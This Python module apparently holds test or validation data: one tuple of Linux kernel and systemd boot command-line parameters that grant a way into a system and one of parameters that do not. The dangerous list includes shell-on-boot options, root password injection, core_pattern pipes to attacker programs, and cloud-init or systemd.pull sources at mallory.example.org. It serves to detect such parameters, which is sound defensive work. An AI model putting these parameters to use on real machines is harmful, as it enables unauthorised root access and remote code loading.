# SPDX-License-Identifier: MIT
"""Words of the kernel's command line that are ways in, and words that are none."""

from __future__ import annotations

WORDS = (
    *(
        "init=/bin/sh",
        "rdinit=/bin/sh",
        "single",
        "1",
        "S",
        "-b",
        "rescue",
        "rd.emergency",
        "rd.break",
        "break=premount",
    ),
    *(
        "systemd.unit=rescue.target",
        "systemd.debug-shell",
        "systemd.debug_shell=ttyS0",
        "systemd.wants=debug-shell.service",
    ),
    *("systemd.run=/bin/x", "rd.systemd.unit=emergency.target", "systemd.setenv=SYSTEMD_SULOGIN_FORCE=1"),
    *("systemd.set_credential=passwd.plaintext-password.root:x", "SYSTEMD_SULOGIN_FORCE=1"),
    *("ds=nocloud;s=http://mallory.example.org/", "cc:", "cloud-config-url=http://mallory.example.org/x"),
    *("ci.datasource.ds=x", "url=http://mallory.example.org/x", "systemd.default-debug-tty=ttyS0"),
    *("systemd.mount-extra=/srv/p:/etc/pam.d:none:bind", "systemd.mount_extra=/srv/p:/etc/pam.d:none:bind"),
    *("--unit=rescue.target", "--", "--crash-shell", "s", "b", "emergency", "rd.shell", "rd.systemd.mount_extra=x"),
    *("SYSTEMD_UNIT_PATH=/srv/u:", "SYSTEMD_GENERATOR_PATH=/srv/g", "LD_PRELOAD=/srv/x.so", "PATH=/srv"),
    *("initrd=evil", "boot=nfs", "nfsroot=192.0.2.1:/", "overlayroot=tmpfs", "overlayroot_cfgdisk=LABEL=x"),
    *("cryptopts=source=x,keyscript=/srv/x", "mount.usr=/dev/sda9", "iso-scan/filename=/x.iso"),
    *("sysctl.kernel.core_pattern=|/srv/x", "sysctl.kernel/core-pattern=|/srv/x", "sysctl.kernel.modprobe=/srv/x"),
    *("systemd.early_core_pattern=|/srv/x", "systemd.crash_shell", "systemd.crash-shell=1", "systemd.confirm_spawn=1"),
    *("systemd.ssh_listen=vsock::22", "systemd.ssh_auto", "systemd.ssh_auto=yes", "systemd.firstboot=1"),
    *("systemd.run_success_action=none", "systemd.import_credentials=1", "systemd.set_credential_binary=x:eA=="),
    *("systemd.pull=tar,machine,verify=no:x:http://mallory.example.org/x", "systemd.volatile=yes", "systemd.new_word"),
    *("kgdboc=ttyS0", "kgdbwait", "ekgdboc=kbd", "bootconfig", "systemd.default_unit=rescue.target"),
)
"""Words of the kernel's command line that are ways in, also where a recipe has them."""
OTHER_WORDS = (
    *("root=/dev/sda9", "rootflags=subvol=x", "rootfstype=9p", "console=ttyS9", "quiet", "apparmor=0", "ip=dhcp"),
    *("'single'", "netconsole=@/,@192.0.2.1/", "module.word=x"),
)
"""Words that are no way in by themselves, or not here, and that no recipe has asked for."""
